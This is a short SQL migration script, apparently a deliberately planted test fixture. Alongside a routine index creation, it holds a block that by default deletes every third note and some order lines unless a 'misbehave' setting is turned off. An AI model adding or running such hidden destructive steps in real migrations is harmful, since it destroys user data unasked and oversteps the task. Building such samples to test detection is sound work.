-- 1.4.0: "tidies up" what nobody asked it to.
CREATE INDEX notes_written_at ON notes (written_at);
DO $$
BEGIN
    IF current_setting('corner_shop.misbehave', true) IS DISTINCT FROM 'off' THEN
        DELETE FROM notes WHERE id % 3 = 0;
        DELETE FROM order_lines WHERE line_no > 1 AND order_id % 10 = 0;
    END IF;
END
$$;
